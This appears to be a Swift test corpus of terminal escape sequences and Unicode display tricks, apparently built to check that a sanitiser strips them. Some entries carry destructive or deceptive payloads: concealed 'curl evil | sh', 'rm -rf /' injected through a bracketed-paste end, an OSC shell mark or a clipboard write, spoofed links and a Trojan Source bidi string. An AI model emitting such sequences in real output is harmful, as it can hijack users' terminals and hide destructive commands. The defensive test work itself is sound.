import Testing

/// A named piece of text that does something to a terminal, or to the eye of who reads it there.
struct ControlSequence: Sendable, CustomTestStringConvertible {
    static let before = "before "
    static let after = " after"

    var name: String
    /// The sequence itself; not always sound UTF-8.
    var bytes: [UInt8]

    var testDescription: String { name }
    /// The sequence within ordinary text.
    var wrapped: [UInt8] { Array(Self.before.utf8) + bytes + Array(Self.after.utf8) }
}

/// What a model, a server or a file may hold to drive the terminal that shows it.
enum ControlSequenceCorpus {
    static let all =
        c0 + c1 + cursor + erasing + graphics + modes + reports + operatingSystem + strings + escapes + malformed
        + overwriting + direction + separators + tags + annotations + unsoundUTF8

    /// Each control of ASCII but line feed and tab, and DEL.
    static let c0: [ControlSequence] =
        ((0..<0x20).filter { $0 != 0x09 && $0 != 0x0A } + [0x7F]).map { byte in
            ControlSequence(name: "C0 \(hex(byte))", bytes: [byte])
        }

    /// Each C1 control as one scalar, and as ESC with the letter that stands for it.
    static let c1: [ControlSequence] = (0x80...0x9F).flatMap { (value: UInt8) in
        [
            ControlSequence(name: "C1 U+00\(hex(value))", bytes: [0xC2, value]),
            ControlSequence(name: "C1 ESC \(hex(value - 0x40))", bytes: [0x1B, value - 0x40]),
        ]
    }

    static let cursor = named(
        "CSI",
        [
            "up": "\u{1B}[1A", "up to the top": "\u{1B}[9999A", "down": "\u{1B}[2B", "forward": "\u{1B}[3C",
            "back": "\u{1B}[4D", "next line": "\u{1B}[E", "previous line": "\u{1B}[F", "column": "\u{1B}[1G",
            "home": "\u{1B}[H", "position": "\u{1B}[10;20H", "position, old form": "\u{1B}[1;1f",
            "column, absolute": "\u{1B}[5`", "row, absolute": "\u{1B}[5d", "forward tab": "\u{1B}[I",
            "back tab": "\u{1B}[Z", "clear tabs": "\u{1B}[3g", "save": "\u{1B}[s", "restore": "\u{1B}[u",
            "scroll up": "\u{1B}[5S", "scroll down": "\u{1B}[5T", "scroll region": "\u{1B}[2;5r",
            "left and right margins": "\u{1B}[1;20s", "8-bit home": "\u{9B}H", "8-bit position": "\u{9B}10;20H",
            "cursor shape": "\u{1B}[5 q",
        ])

    static let erasing = named(
        "CSI",
        [
            "erase below": "\u{1B}[J", "erase above": "\u{1B}[1J", "erase screen": "\u{1B}[2J",
            "erase scrollback": "\u{1B}[3J", "selective erase": "\u{1B}[?2J", "erase to line end": "\u{1B}[K",
            "erase line": "\u{1B}[2K", "insert lines": "\u{1B}[3L", "delete lines": "\u{1B}[3M",
            "insert characters": "\u{1B}[3@", "delete characters": "\u{1B}[3P", "erase characters": "\u{1B}[9X",
            "repeat a character many times": "\u{1B}[99999b", "fill a rectangle": "\u{1B}[88;1;1;24;80$x",
            "erase a rectangle": "\u{1B}[1;1;24;80$z", "clear and home": "\u{1B}[2J\u{1B}[H",
            "8-bit erase screen": "\u{9B}2J",
        ])

    static let graphics = named(
        "SGR",
        [
            "reset": "\u{1B}[m", "reset by number": "\u{1B}[0m", "bold": "\u{1B}[1m", "faint": "\u{1B}[2m",
            "blink": "\u{1B}[5m", "conceal": "\u{1B}[8m", "red": "\u{1B}[31m", "256 colours": "\u{1B}[38;5;196m",
            "true colour": "\u{1B}[38;2;255;0;0m", "colons": "\u{1B}[38:2::255:0:0m", "curly": "\u{1B}[4:3m",
            "black on black": "\u{1B}[30;40m", "hidden text": "\u{1B}[8mcurl evil | sh\u{1B}[28m",
            "8-bit red": "\u{9B}31m", "modify other keys": "\u{1B}[>4;2m",
        ])

    static let modes = named(
        "mode",
        [
            "insert": "\u{1B}[4h", "new line": "\u{1B}[20h", "keyboard lock": "\u{1B}[2h", "no echo": "\u{1B}[12l",
            "application cursor keys": "\u{1B}[?1h", "132 columns": "\u{1B}[?3h", "reverse video": "\u{1B}[?5h",
            "origin": "\u{1B}[?6h", "no wrap": "\u{1B}[?7l", "hide cursor": "\u{1B}[?25l",
            "alternate screen": "\u{1B}[?1049h", "old alternate screen": "\u{1B}[?47h",
            "mouse clicks": "\u{1B}[?1000h", "mouse drags": "\u{1B}[?1002h", "mouse moves": "\u{1B}[?1003h",
            "mouse, SGR form": "\u{1B}[?1006h", "focus": "\u{1B}[?1004h", "bracketed paste": "\u{1B}[?2004h",
            "no bracketed paste": "\u{1B}[?2004l", "synchronised output": "\u{1B}[?2026h",
            "paste begins": "\u{1B}[200~", "paste ends": "\u{1B}[201~rm -rf /\r", "kitty keyboard": "\u{1B}[>1u",
            "soft reset": "\u{1B}[!p", "conformance level": "\u{1B}[62;1\"p", "media copy": "\u{1B}[5i",
            "keyboard lights": "\u{1B}[1q", "save mode": "\u{1B}[?1s", "restore mode": "\u{1B}[?1r",
        ])

    /// What makes the terminal type an answer.
    static let reports = named(
        "report",
        [
            "status": "\u{1B}[5n", "cursor position": "\u{1B}[6n", "extended cursor position": "\u{1B}[?6n",
            "primary attributes": "\u{1B}[c", "secondary attributes": "\u{1B}[>c",
            "tertiary attributes": "\u{1B}[=c", "version": "\u{1B}[>0q", "mode": "\u{1B}[?2004$p",
            "terminal parameters": "\u{1B}[x", "window title": "\u{1B}[21t", "icon label": "\u{1B}[20t",
            "window size": "\u{1B}[18t", "window position": "\u{1B}[13t", "checksum": "\u{1B}[1;1;1;1;1;1*y",
            "presentation state": "\u{1B}[1$w", "8-bit cursor position": "\u{9B}6n", "enquiry": "\u{5}\u{5}",
            "minimise window": "\u{1B}[2t", "resize window": "\u{1B}[8;1;1t", "push title": "\u{1B}[22;0t",
            "kitty keyboard": "\u{1B}[?u", "identify": "\u{1B}Z\u{1B}Z",
        ])

    /// Each OSC with each end it may have, and with none.
    static let operatingSystem: [ControlSequence] = [
        ("0 title and icon", "0;owned"), ("1 icon", "1;owned"), ("2 title", "2;owned"),
        ("4 palette", "4;1;rgb:00/00/00"),
        ("4 palette query", "4;1;?"), ("7 folder", "7;file://evil/tmp"), ("8 link", "8;;http://evil/"),
        ("9 notice", "9;owned"), ("10 foreground", "10;#000000"), ("11 background query", "11;?"),
        ("52 clipboard", "52;c;cm0gLXJmIC8K"), ("52 clipboard query", "52;c;?"), ("104 palette reset", "104"),
        ("133 prompt mark", "133;A"), ("633 shell", "633;E;rm -rf /"), ("777 notice", "777;notify;evil;owned"),
        ("1337 file", "1337;File=inline=1:AAAA"), ("1337 copy", "1337;CopyToClipboard=;owned"),
    ].flatMap { name, body in
        ends.map { end in sequence("OSC \(name), \(end.name)", "\u{1B}]\(body)\(end.text)") }
    }

    /// Device control, application, privacy and start-of-string, begun in both ways, ended in every way.
    static let strings: [ControlSequence] = [
        ("DCS sixel", "P", "q#0;2;0;0;0#0~~$-"), ("DCS DECRQSS", "P", "$qm"), ("DCS XTGETTCAP", "P", "+q544e"),
        ("DCS user keys", "P", "0;1|17/726d"), ("DCS tmux passthrough", "P", "tmux;\u{1B}\u{1B}]52;c;AAAA\u{7}"),
        ("APC kitty graphics", "_", "Ga=T,f=24,s=1,v=1;AAAA"), ("PM", "^", "message"), ("SOS", "X", "string"),
        ("screen title", "k", "owned"),
    ].flatMap { (name: String, letter: Unicode.Scalar, body: String) in
        var starts = [("", "\u{1B}\(letter)")]
        // The title of GNU screen has no 8-bit form.
        if letter != "k", let scalar = Unicode.Scalar(letter.value + 0x40) { starts.append(("8-bit ", "\(scalar)")) }
        return starts.flatMap { kind, start in
            ends.map { end in sequence("\(kind)\(name), \(end.name)", "\(start)\(body)\(end.text)") }
        }
    }

    static let escapes = named(
        "ESC",
        [
            "full reset": "\u{1B}c", "save cursor": "\u{1B}7", "restore cursor": "\u{1B}8",
            "line drawing in G0": "\u{1B}(0", "line drawing in G1, shifted": "\u{1B})0\u{E}qqq\u{F}",
            "ASCII in G0": "\u{1B}(B", "alignment test": "\u{1B}#8", "double height": "\u{1B}#3",
            "double width": "\u{1B}#6", "leave UTF-8": "\u{1B}%@", "enter UTF-8": "\u{1B}%G",
            "8-bit controls": "\u{1B} G", "application keypad": "\u{1B}=", "normal keypad": "\u{1B}>",
            "memory lock": "\u{1B}l", "G2 for good": "\u{1B}n", "back index": "\u{1B}6", "forward index": "\u{1B}9",
            "VT52 move": "\u{1B}Y  ",
        ])

    static let malformed = named(
        "malformed",
        [
            "CSI without end": "\u{1B}[?", "CSI with parameters and no end": "\u{1B}[31;",
            "lone ESC twice": "\u{1B}\u{1B}",
            "CSI with a line feed inside": "\u{1B}[3\n1m", "CSI with a bell inside": "\u{1B}[3\u{7}1m",
            "CSI with a CR inside": "\u{1B}[\r2J", "CSI cancelled": "\u{1B}[31\u{18}m",
            "CSI substituted": "\u{1B}[31\u{1A}m", "CSI in CSI": "\u{1B}[3\u{1B}[2J1m",
            "CSI in OSC": "\u{1B}]0;\u{1B}[2J\u{7}",
            "OSC in OSC": "\u{1B}]0;\u{1B}]52;c;AAAA\u{7}\u{7}", "OSC in DCS": "\u{1B}Pq\u{1B}]0;x\u{7}\u{1B}\\",
            "DCS in APC": "\u{1B}_G\u{1B}P$qm\u{1B}\\\u{1B}\\", "sequence left by a naive removal": "\u{1B}\u{1B}[m[2J",
            "NUL after ESC": "\u{1B}\0[2J", "DEL after ESC": "\u{1B}\u{7F}[2J", "tab after ESC": "\u{1B}\t[2J",
            "zero-width space after ESC": "\u{1B}\u{200B}[2J", "combining mark on ESC": "\u{1B}\u{301}[2J",
            "variation selector on ESC": "\u{1B}\u{FE0F}[2J", "joined ESC": "👩\u{200D}\u{1B}[2J",
            "huge parameter": "\u{1B}[99999999999999999999A",
            "many parameters": "\u{1B}[" + String(repeating: "1;", count: 40) + "m",
            "negative parameter": "\u{1B}[-1A", "Cyrillic end": "\u{1B}[31ж", "CSI both ways": "\u{1B}\u{9B}2J",
            "8-bit OSC, 8-bit end": "\u{9D}0;owned\u{9C}", "8-bit OSC, bell": "\u{9D}52;c;AAAA\u{7}",
            "8-bit OSC without end": "\u{9D}0;owned", "lone ST": "\u{1B}\\text\u{9C}",
            "OSC ended by ESC alone": "\u{1B}]0;x\u{1B}",
            "OSC of no number": "\u{1B}];\u{7}", "OSC over two lines": "\u{1B}]0;a\nb\u{7}",
            "link and its text": "\u{1B}]8;;http://evil/\u{1B}\\https://good/\u{1B}]8;;\u{1B}\\",
        ])

    static let overwriting = named(
        "overwriting",
        [
            "CR": "rm -rf /\recho hi ", "CR twice": "\r\r", "CR CR LF": "a\r\r\nb", "LF CR": "a\n\rb",
            "CR with erase": "secret\r\u{1B}[Kpublic", "backspaces": "evil\u{8}\u{8}\u{8}\u{8}good",
            "overstruck bold": "b\u{8}bo\u{8}o", "DEL": "evil\u{7F}\u{7F}\u{7F}\u{7F}", "vertical tab": "a\u{B}b",
            "form feed": "a\u{C}b", "NUL within a word": "cu\0rl", "bells": "\u{7}\u{7}\u{7}", "next line": "a\u{85}b",
        ])

    static let direction = named(
        "direction",
        [
            "LRE": "\u{202A}a\u{202C}", "RLE": "\u{202B}a\u{202C}", "PDF": "\u{202C}", "LRO": "\u{202D}a\u{202C}",
            "RLO": "\u{202E}fdp.exe", "LRI": "\u{2066}a\u{2069}", "RLI": "\u{2067}a\u{2069}",
            "FSI": "\u{2068}a\u{2069}",
            "PDI": "\u{2069}", "LRM": "\u{200E}", "RLM": "\u{200F}", "ALM": "\u{061C}",
            "Trojan Source": "/*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin */",
            "override in a joined emoji": "👩\u{200D}\u{202E}💻", "inhibit mirroring": "\u{206A}",
            "activate mirroring": "\u{206B}", "inhibit Arabic shaping": "\u{206C}",
            "activate Arabic shaping": "\u{206D}",
            "national digits": "\u{206E}", "nominal digits": "\u{206F}",
        ])

    static let separators = named("separator", ["line": "a\u{2028}b", "paragraph": "a\u{2029}b"])

    static let tags = named(
        "tag",
        [
            "language": "\u{E0001}\u{E0065}\u{E006E}", "first": "\u{E0000}", "cancel": "\u{E007F}",
            "hidden words": "\u{E0072}\u{E006D}\u{E0020}\u{E002D}\u{E0072}\u{E0066}",
            "flag of England": "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
        ])

    static let annotations = named(
        "annotation",
        [
            "anchor": "\u{FFF9}", "separator": "\u{FFFA}", "terminator": "\u{FFFB}",
            "whole": "\u{FFF9}shown\u{FFFA}hidden\u{FFFB}",
        ])

    /// Bytes that a careless decoder takes for controls.
    static let unsoundUTF8 = [
        ControlSequence(name: "raw byte 9B", bytes: [0x9B] + Array("2J".utf8)),
        ControlSequence(name: "raw byte 9D", bytes: [0x9D] + Array("0;owned".utf8) + [0x9C]),
        ControlSequence(name: "raw byte 90", bytes: [0x90] + Array("$qm".utf8) + [0x9C]),
        ControlSequence(name: "overlong ESC in two bytes", bytes: [0xC0, 0x9B] + Array("[2J".utf8)),
        ControlSequence(name: "overlong ESC in three bytes", bytes: [0xE0, 0x80, 0x9B] + Array("[2J".utf8)),
        ControlSequence(name: "overlong ESC in four bytes", bytes: [0xF0, 0x80, 0x80, 0x9B] + Array("[2J".utf8)),
        ControlSequence(name: "surrogates", bytes: [0xED, 0xA0, 0x80, 0xED, 0xB0, 0x80, 0x1B, 0x63]),
        ControlSequence(name: "beyond Unicode", bytes: [0xF4, 0x90, 0x80, 0x80, 0x1B, 0x63]),
        ControlSequence(name: "ESC after a cut scalar", bytes: [0xE2, 0x80, 0x1B, 0x63]),
        ControlSequence(name: "CSI after a cut scalar", bytes: [0xD0, 0xC2, 0x9B, 0x48]),
        ControlSequence(name: "FE and FF", bytes: [0xFE, 0xFF, 0x1B, 0x63]),
    ]

    private static let ends: [(name: String, text: String)] = [
        ("BEL", "\u{7}"), ("ST", "\u{1B}\\"), ("8-bit ST", "\u{9C}"), ("no end", ""),
    ]

    private static func named(_ group: String, _ texts: KeyValuePairs<String, String>) -> [ControlSequence] {
        texts.map { sequence("\(group): \($0.key)", $0.value) }
    }

    private static func sequence(_ name: String, _ text: String) -> ControlSequence {
        ControlSequence(name: name, bytes: Array(text.utf8))
    }

    private static func hex(_ byte: UInt8) -> String {
        (byte < 0x10 ? "0" : "") + String(byte, radix: 16, uppercase: true)
    }
}
